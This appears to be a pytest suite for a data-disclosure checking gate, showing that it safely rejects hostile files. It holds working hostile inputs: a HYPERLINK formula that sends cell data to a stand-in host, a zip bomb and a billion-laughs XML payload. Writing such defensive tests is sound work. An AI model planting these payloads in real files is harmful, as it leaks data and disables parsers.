"""Hostile files: the gate never raises, never blows up, and fails the file with a reason."""

from __future__ import annotations

import io
import os
import time
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from hdh.disclosure import CheckConfig, CheckInput, FileReport, check_files


def _one(path: Path, name: str, config: CheckConfig | None = None) -> FileReport:
    (r,) = check_files([CheckInput(path, name, "output")], config=config)
    return r


def _xlsx(path: Path, rows: list[list[object]]) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    wb.save(path)
    return path


def test_xlsx_table_is_checked_per_sheet(tmp_path: Path) -> None:
    p = _xlsx(tmp_path / "t.xlsx", [["region", "count"], ["A", 40], ["B", 3]])
    r = _one(p, "t.xlsx")
    assert r.status == "fail"
    (flag,) = r.flags
    assert (flag.rule, flag.location["labels"], flag.location["sheet"]) == (
        "threshold",
        {"region": "B"},
        "Sheet",
    )


def test_xlsx_formula_is_injection(tmp_path: Path) -> None:
    p = _xlsx(
        tmp_path / "t.xlsx",
        [["region", "count"], ["A", 40], ['=HYPERLINK("http://x.example/?"&A2,"B")', 30]],
    )
    assert "formula-injection" in {f.rule for f in _one(p, "t.xlsx").flags}


def test_xlsx_zip_bomb_refused_before_parsing(tmp_path: Path) -> None:
    p = _xlsx(tmp_path / "t.xlsx", [["region", "count"], ["A", 40]])
    with zipfile.ZipFile(p, "a", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/worksheets/sheet2.xml", b"<" + b" " * 60_000_000 + b">")
    assert p.stat().st_size < 1_000_000
    start = time.perf_counter()
    r = _one(p, "t.xlsx")
    assert time.perf_counter() - start < 2
    assert r.status == "fail" and r.flags[0].rule == "too-large"
    assert "zip bomb" in r.flags[0].message


def test_xlsx_billion_laughs_is_unreadable(tmp_path: Path) -> None:
    p = _xlsx(tmp_path / "t.xlsx", [["region", "count"], ["A", 40]])
    sheet = zipfile.ZipFile(p).read("xl/worksheets/sheet1.xml").decode()
    entities = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 9))
    dtd = f'<!DOCTYPE w [<!ENTITY l0 "lol">{entities}]>'
    sheet = sheet.replace("<worksheet", dtd + "<worksheet", 1).replace(">A<", ">&l8;<")
    buf = io.BytesIO()
    with zipfile.ZipFile(p) as src, zipfile.ZipFile(buf, "w") as dst:
        for item in src.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(item, src.read(item.filename))
        dst.writestr("xl/worksheets/sheet1.xml", sheet)
    p.write_bytes(buf.getvalue())
    start = time.perf_counter()
    r = _one(p, "t.xlsx")
    assert time.perf_counter() - start < 2
    assert r.status == "fail" and r.flags[0].rule == "unreadable"


def test_xlsx_with_a_million_cells_is_too_large(tmp_path: Path) -> None:
    p = _xlsx(tmp_path / "t.xlsx", [["g", *range(20)], *[[f"r{i}", *range(20)] for i in range(60)]])
    r = _one(p, "t.xlsx", CheckConfig(max_cells=1000))
    assert r.status == "fail" and r.flags[0].rule == "too-large"


def test_csv_with_a_million_cells_is_refused_fast(tmp_path: Path) -> None:
    p = tmp_path / "t.csv"
    row = ",".join(["10"] * 1001) + "\n"
    p.write_text("g" + ",c" * 1000 + "\n" + row * 1000)
    start = time.perf_counter()
    r = _one(p, "t.csv")
    assert time.perf_counter() - start < 2
    assert r.status == "fail" and r.flags[0].rule == "too-large"


def test_oversized_file_is_refused_unread(tmp_path: Path) -> None:
    p = tmp_path / "t.csv"
    p.write_text("a,count\n" + "x" * 5000 + ",20\n")
    r = _one(p, "t.csv", CheckConfig(max_file_bytes=1000))
    assert r.status == "fail" and r.flags[0].rule == "too-large"


def test_huge_single_line_is_handled(tmp_path: Path) -> None:
    p = tmp_path / "t.csv"
    p.write_text("label,count\n" + "y" * 5_000_000 + ",25\n")
    r = _one(p, "t.csv")
    assert r.status == "pass", r.flags


@pytest.mark.parametrize(
    "content,needle",
    [
        (b"label,count\nA,\x0020\n", "NUL"),
        (b"label,count\n\xe9t\xe9,20\n", "UTF-8"),
        (b"label,count\nA,1,2,3\n", "parsed"),
        (b"", "empty"),
    ],
)
def test_bad_bytes_fail_with_a_reason(tmp_path: Path, content: bytes, needle: str) -> None:
    p = tmp_path / "t.csv"
    p.write_bytes(content)
    r = _one(p, "t.csv")
    assert r.status == "fail" and r.flags[0].rule == "unreadable"
    assert needle in r.flags[0].message


def test_symlink_and_fifo_are_not_followed(tmp_path: Path) -> None:
    target = tmp_path / "secret.csv"
    target.write_text("a,count\nx,20\n")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    reports = check_files(
        [
            CheckInput(link, "link.csv", "output"),
            CheckInput(fifo, "pipe.csv", "output"),
            CheckInput(tmp_path / "gone.csv", "gone.csv", "output"),
        ]
    )
    assert [r.status for r in reports] == ["fail"] * 3
    assert all(r.flags[0].rule == "unreadable" for r in reports)


def test_parquet_table_and_its_cell_limit(tmp_path: Path) -> None:
    p = tmp_path / "t.parquet"
    pd.DataFrame({"region": ["A", "B"], "count": [40, 4]}).to_parquet(p)
    r = _one(p, "t.parquet")
    assert [f.rule for f in r.flags] == ["threshold"]
    assert _one(p, "t.parquet", CheckConfig(max_cells=3)).flags[0].rule == "too-large"
    bad = tmp_path / "bad.parquet"
    bad.write_bytes(b"PAR1 not really PAR1")
    assert _one(bad, "bad.parquet").flags[0].rule == "unreadable"


def test_unknown_output_type_fails(tmp_path: Path) -> None:
    p = tmp_path / "data.zip"
    p.write_bytes(b"PK\x05\x06" + b"\0" * 18)
    r = _one(p, "data.zip")
    assert r.status == "fail" and r.flags[0].rule == "file-type"


def test_many_flags_are_capped(tmp_path: Path) -> None:
    p = tmp_path / "t.csv"
    p.write_text("g,count\n" + "".join(f"r{i},3\n" for i in range(500)))
    r = _one(p, "t.csv", CheckConfig(max_flags_per_rule=10))
    assert len(r.flags) == 11 and "490 more" in r.flags[-1].message


def test_data_hidden_in_xlsx_parts_needs_review(tmp_path: Path) -> None:
    from openpyxl.comments import Comment

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["region", "count"])
    ws.append(["A", 40])
    ws["A2"].comment = Comment("BEN_NIR_PSA of the only patient: 1850775123456", "me")
    hidden = wb.create_sheet("raw")
    hidden.append(["id", "age"])
    hidden.sheet_state = "hidden"
    wb.save(tmp_path / "t.xlsx")
    r = _one(tmp_path / "t.xlsx", "t.xlsx")
    flag = next(f for f in r.flags if f.rule == "hidden-content")
    assert flag.severity == "review"
    assert "cell comments" in flag.location["hidden"]
    assert "hidden sheet 'raw'" in flag.location["hidden"]


def test_data_hidden_in_parquet_metadata_needs_review(tmp_path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.table({"region": ["A", "B"], "count": [40, 50]})
    table = table.replace_schema_metadata({b"rows": b"1850775123456,1,2"})
    pq.write_table(table, tmp_path / "t.parquet")
    r = _one(tmp_path / "t.parquet", "t.parquet")
    assert r.status == "review" and [f.rule for f in r.flags] == ["hidden-content"]


def test_leading_numeric_label_columns_are_labels(tmp_path: Path) -> None:
    p = tmp_path / "t.csv"
    p.write_text("year,age,count\n2021,3,40\n2021,4,55\n2022,3,41\n")
    r = _one(p, "t.csv")
    assert r.status == "pass", r.flags


def test_malformed_evidence_is_reported_on_the_supporting_file(tmp_path: Path) -> None:
    t = tmp_path / "t.csv"
    t.write_text("region,count\nA,40\n")
    bad = tmp_path / "results.json"
    bad.write_text("{not json")
    out, sup = check_files(
        [CheckInput(t, "t.csv", "output"), CheckInput(bad, "results.json", "supporting")]
    )
    assert out.status == "pass"
    assert sup.status == "review" and sup.flags[0].rule == "unreadable"


def test_mutated_files_never_raise(tmp_path: Path) -> None:
    """Truncated and bit-flipped versions of valid files of every type: a verdict, never an
    exception."""
    import json as _json
    import random

    from PIL import Image

    from hdh.disclosure import crosstab, write_table

    seeds: dict[str, bytes] = {}
    (tmp_path / "s.csv").write_text("region,count\nA,40\nB,3\nTotal,43\n")
    _xlsx(tmp_path / "s.xlsx", [["region", "count"], ["A", 40], ["B", 3]])
    pd.DataFrame({"region": ["A"], "count": [40]}).to_parquet(tmp_path / "s.parquet")
    Image.new("RGB", (8, 8)).save(tmp_path / "s.png")
    Image.new("RGB", (8, 8)).save(tmp_path / "s.jpeg")
    (tmp_path / "s.pkl").write_bytes(
        b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00]\x94(K\x01K\x02e."
    )
    df = pd.DataFrame({"g": ["a", "b", "a"], "h": ["x", "y", "y"], "v": [1.0, 2.0, 3.0]})
    side = write_table(crosstab(df, "g", "h", values="v", aggfunc="sum"), tmp_path / "t.csv")
    (tmp_path / "r.json").write_text(
        _json.dumps(
            {
                "version": "1",
                "results": {
                    "o": {
                        "status": "fail",
                        "files": [{"name": "s.csv", "sdc": {"cells": {"NKCheck": [[0, 0]]}}}],
                    }
                },
            }
        )
    )
    for name in ("s.csv", "s.xlsx", "s.parquet", "s.png", "s.jpeg", "s.pkl", "t.csv", "r.json"):
        seeds[name] = (tmp_path / name).read_bytes()
    seeds[side.name] = side.read_bytes()
    rng = random.Random(7)
    for round_ in range(12):
        inputs = []
        for name, data in seeds.items():
            mutated = bytearray(data)
            if rng.random() < 0.5:
                mutated = mutated[: rng.randrange(len(mutated) + 1)]
            for _ in range(rng.randrange(1, 8)):
                if mutated:
                    mutated[rng.randrange(len(mutated))] = rng.randrange(256)
            d = tmp_path / f"m{round_}"
            d.mkdir(exist_ok=True)
            (d / name).write_bytes(bytes(mutated))
            role = "supporting" if name.endswith(".json") else "output"
            inputs.append(CheckInput(d / name, name, role))
        reports = check_files(inputs)
        assert [r.name for r in reports] == [i.name for i in inputs]
        assert all(r.status in ("pass", "fail", "review") for r in reports)
